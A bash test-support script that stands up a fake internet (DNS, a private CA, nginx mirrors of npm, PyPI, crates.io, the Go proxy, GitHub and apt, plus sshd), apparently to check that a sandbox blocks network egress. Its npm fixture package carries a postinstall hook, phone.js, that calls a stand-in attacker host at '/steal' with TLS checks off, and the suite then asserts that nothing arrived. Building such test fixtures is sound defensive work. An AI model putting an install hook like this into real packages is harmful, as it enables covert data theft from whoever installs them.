# shellcheck shell=bash
# The internet of tools.sh: a name server for every name there is, web servers with a CA of their own, a git
# host; and what npm, pip, cargo, go and apt want to find at their hosts, as files below $T/www/HOST/.

EVIL4=198.51.100.66
HOSTS='www.test registry.test intra.test evil.test nodejs.org pypi.org files.pythonhosted.org index.crates.io static.crates.io
    proxy.golang.org sum.golang.org github.com codeload.github.com raw.githubusercontent.com objects.githubusercontent.com
    release-assets.githubusercontent.com storage.googleapis.com nas.lan'

# Before the test function, as root in the fake host.
prepare() {
    outside ip address add "$EVIL4/32" dev lo
    make_authority
    local host
    for host in $HOSTS; do
        mkdir -p "$T/www/$host"
        echo "hello from $host" > "$T/www/$host/index.html"
    done
    chmod -R a+rwX "$T/www"
    serve_names
    serve_web
    serve_ssh
    # ssh wants an account.
    { cat /etc/passwd && echo "tester:x:$TEST_UID:$TEST_UID::$T:/bin/sh"; } > "$T/passwd"
    mount --bind "$T/passwd" /etc/passwd
    # What this machine tells its tools (mirrors, authorities, proxies) is not the test's.
    # shellcheck disable=SC2046
    unset $(compgen -e | grep -iE '^(PIP|NPM_CONFIG|NODE|GO|CARGO|GIT|SSL|REQUESTS|CURL)_?|_proxy$') 2> /dev/null || :
    export CURL_CA_BUNDLE=$T/ca.pem GIT_SSL_CAINFO=$T/ca.pem NODE_EXTRA_CA_CERTS=$T/ca.pem PIP_CERT=$T/ca.pem
    export npm_config_userconfig=$T/npmrc npm_config_globalconfig=$T/npmrc.global PIP_CONFIG_FILE=/dev/null
    export npm_config_registry=https://registry.test npm_config_cache=$T/npm npm_config_update_notifier=false npm_config_fetch_retries=0
    export PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_RETRIES=0 PIP_INDEX_URL=https://pypi.org/simple
}

make_authority() {
    local key='-newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2' names
    names=$(printf ',DNS:%s' $HOSTS)
    # shellcheck disable=SC2086
    {
        openssl req -x509 $key -keyout "$T/ca.key" -out "$T/ca.pem" -subj '/CN=test CA'
        openssl req $key -keyout "$T/web.key" -out "$T/web.csr" -subj /CN=web
        printf 'subjectAltName=%s\n' "${names#,}" > "$T/web.ext"
        openssl x509 -req -in "$T/web.csr" -CA "$T/ca.pem" -CAkey "$T/ca.key" -CAcreateserial -days 2 -extfile "$T/web.ext" -out "$T/web.pem"
    } > "$T/openssl" 2>&1 || { cat "$T/openssl" >&2; return 1; }
}

serve_names() {
    local dir=$T/nsd host
    mkdir "$dir"
    {
        printf '$ORIGIN .\n$TTL 300\n@ IN SOA ns.test. root.test. 1 3600 600 86400 60\n@ IN NS ns.test.\nns.test. A %s\n' "$OUTSIDE4"
        for host in $HOSTS; do
            case $host in
            evil.test) echo "$host. A $EVIL4" ;;
            intra.test | nas.lan) echo "$host. A $PRIVATE4" ;;
            *) printf '%s. A %s\n%s. AAAA %s\n' "$host" "$INTERNET4" "$host" "$INTERNET6" ;;
            esac
        done
    } > "$dir/zone"
    cat > "$dir/nsd.conf" <<- C
		server:
		  ip-address: $OUTSIDE4
		  username: ""
		  pidfile: ""
		  zonesdir: "$dir"
		  zonelistfile: "$dir/zone.list"
		  xfrdfile: ""
		  database: ""
		  logfile: "$dir/log"
		remote-control:
		  control-enable: no
		zone:
		  name: "."
		  zonefile: "$dir/zone"
		C
    nsenter --net=/run/netns/outside unshare --pid --fork --kill-child=KILL nsd -d -c "$dir/nsd.conf" > "$dir/out" 2>&1 &
    wait_for_port udp 53 outside
    wait_for 10 pgrep -x 'nsd: server 1' # the one that answers is forked behind that
    echo "nameserver $OUTSIDE4" > "$T/resolv.conf"
    mount --bind "$T/resolv.conf" /etc/resolv.conf
}

serve_web() {
    mkdir "$T/nginx"
    cat > "$T/nginx.conf" <<- C
		daemon off;
		master_process off;
		pid $T/nginx/pid;
		error_log $T/nginx/error;
		events { }
		http {
		    log_format came '\$server_addr \$host \$uri \$status';
		    access_log $T/nginx/access came;
		    client_body_temp_path $T/nginx/a;
		    proxy_temp_path $T/nginx/b;
		    fastcgi_temp_path $T/nginx/c;
		    uwsgi_temp_path $T/nginx/d;
		    scgi_temp_path $T/nginx/e;
		    server {
		        listen 80;
		        listen [::]:80;
		        listen 443 ssl;
		        listen [::]:443 ssl;
		        ssl_certificate $T/web.pem;
		        ssl_certificate_key $T/web.key;
		        root $T/www/\$host;
		        index index.html;
		    }
		}
		C
    outside nginx -c "$T/nginx.conf" > "$T/nginx/out" 2>&1 &
    wait_for_port tcp 443 outside
}

# Shows what the relay carried: the names' addresses are seen by the server itself.
nobody_came_to_evil() { assert_lacks "$(cat "$T/nginx/access")" "$EVIL4"; }

serve_ssh() {
    command -v sshd > /dev/null || return 0
    mkdir -p /run/sshd
    ssh-keygen -q -t ed25519 -N '' -f "$T/sshd"
    : > "$T/authorized"
    chmod 666 "$T/authorized"
    outside "$(command -v sshd)" -D -e -f /dev/null -h "$T/sshd" -o UsePAM=no -o StrictModes=no -o PermitRootLogin=prohibit-password \
        -o "AuthorizedKeysFile=$T/authorized" -o "SetEnv=GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0=*" \
        -o PidFile=none > "$T/sshd.log" 2>&1 &
    wait_for_port tcp 22 outside
}

make_npm_registry() {
    local dir=$T/www/registry.test
    mkdir -p "$T/package"
    cat > "$T/package/package.json" <<- 'E'
		{"name": "hello", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node phone.js"}}
		E
    echo 'module.exports = "hello"' > "$T/package/index.js"
    cat > "$T/package/phone.js" <<- E
		const fs = require('fs'), https = require('https');
		(async () => {
		    for (const host of ['evil.test', '$EVIL4']) {
		        const outcome = await new Promise(done => https.get({host, path: '/steal', rejectUnauthorized: false},
		            answer => done('reached')).on('error', error => done(error.code)));
		        fs.appendFileSync('phoned', host + ' ' + outcome + '\\n');
		    }
		})();
		E
    mkdir -p "$dir/hello.d"
    tar -C "$T" -czf "$dir/hello.d/hello-1.0.0.tgz" package
    cat > "$dir/hello" <<- E
		{"name": "hello", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"name": "hello", "version": "1.0.0",
		"hasInstallScript": true, "scripts": {"postinstall": "node phone.js"},
		"dist": {"tarball": "https://registry.test/hello.d/hello-1.0.0.tgz",
		"integrity": "sha512-$(openssl dgst -sha512 -binary "$dir/hello.d/hello-1.0.0.tgz" | base64 -w0)"}}}}
		E
}

zip() { # zip FILE DIRECTORY: its content
    (cd "$2" && python3 -c 'import sys, zipfile, pathlib
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for p in sorted(pathlib.Path(".").rglob("*")):
        if p.is_file(): z.write(p)' "$1")
}

make_python_index() {
    local info=$T/wheel/hello-1.0.dist-info
    mkdir -p "$info" "$T/www/pypi.org/simple/hello"
    echo 'print("hello")' > "$T/wheel/hello.py"
    printf 'Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n' > "$info/METADATA"
    printf 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n' > "$info/WHEEL"
    printf 'hello.py,,\nhello-1.0.dist-info/METADATA,,\nhello-1.0.dist-info/WHEEL,,\nhello-1.0.dist-info/RECORD,,\n' > "$info/RECORD"
    zip "$T/www/files.pythonhosted.org/hello-1.0-py3-none-any.whl" "$T/wheel"
    echo '<a href="https://files.pythonhosted.org/hello-1.0-py3-none-any.whl">hello-1.0-py3-none-any.whl</a>' > "$T/www/pypi.org/simple/hello/index.html"
}

make_crates() {
    local file=$T/www/static.crates.io/crates/hello/1.0.0/download
    mkdir -p "$T/hello-1.0.0/src" "${file%/*}" "$T/www/index.crates.io/he/ll"
    printf '[package]\nname = "hello"\nversion = "1.0.0"\nedition = "2018"\n' > "$T/hello-1.0.0/Cargo.toml"
    : > "$T/hello-1.0.0/src/lib.rs"
    tar -C "$T" -czf "$file" hello-1.0.0
    echo '{"dl": "https://static.crates.io/crates"}' > "$T/www/index.crates.io/config.json"
    printf '{"name":"hello","vers":"1.0.0","deps":[],"cksum":"%s","features":{},"yanked":false}\n' \
        "$(sha256sum < "$file" | cut -d' ' -f1)" > "$T/www/index.crates.io/he/ll/hello"
}

make_go_proxy() {
    local dir=$T/www/proxy.golang.org/example.test/hello/@v source=$T/gosource/example.test/hello@v1.0.0
    mkdir -p "$dir" "$source"
    printf 'module example.test/hello\n' | tee "$dir/v1.0.0.mod" > "$source/go.mod"
    echo 'package hello' > "$source/hello.go"
    echo '{"Version": "v1.0.0", "Time": "2024-01-01T00:00:00Z"}' > "$dir/v1.0.0.info"
    echo v1.0.0 > "$dir/list"
    zip "$dir/v1.0.0.zip" "$T/gosource"
}

make_mirror() {
    local dir=$T/www/registry.test/debian file
    mkdir -p "$dir" "$T/deb/DEBIAN" "$T"/apt/{etc/apt.conf.d,etc/preferences.d,state/lists/partial,cache/archives/partial}
    printf 'Package: hello\nVersion: 1.0\nArchitecture: all\nMaintainer: test <root@test>\nDescription: test\n' > "$T/deb/DEBIAN/control"
    file=$dir/hello_1.0_all.deb
    dpkg-deb --root-owner-group --build "$T/deb" "$file" > "$T/dpkg-deb"
    {
        cat "$T/deb/DEBIAN/control"
        printf 'Filename: ./hello_1.0_all.deb\nSize: %s\nSHA256: %s\n' "$(stat -c %s "$file")" "$(sha256sum < "$file" | cut -d' ' -f1)"
    } > "$dir/Packages"
    echo 'deb [trusted=yes] http://registry.test/debian ./' > "$T/apt/etc/sources.list"
    # Without capabilities root cannot become _apt.
    # shellcheck disable=SC2034 # used by the test file
    APT="-qq -o APT::Sandbox::User= -o Dir::Etc=$T/apt/etc -o Dir::State=$T/apt/state -o Dir::Cache=$T/apt/cache -o Acquire::Retries=0"
}

make_repository() { # read by git over https as plain files
    export GIT_CONFIG_GLOBAL=$T/gitconfig
    printf '[user]\n\tname = tester\n\temail = tester@test\n[init]\n\tdefaultBranch = main\n' > "$T/gitconfig"
    git init -q "$T/source"
    echo content > "$T/source/file"
    git -C "$T/source" add file
    git -C "$T/source" commit -qm 'A file'
    git clone -q --bare "$T/source" "$T/www/github.com/hello.git"
    git -C "$T/www/github.com/hello.git" update-server-info
}
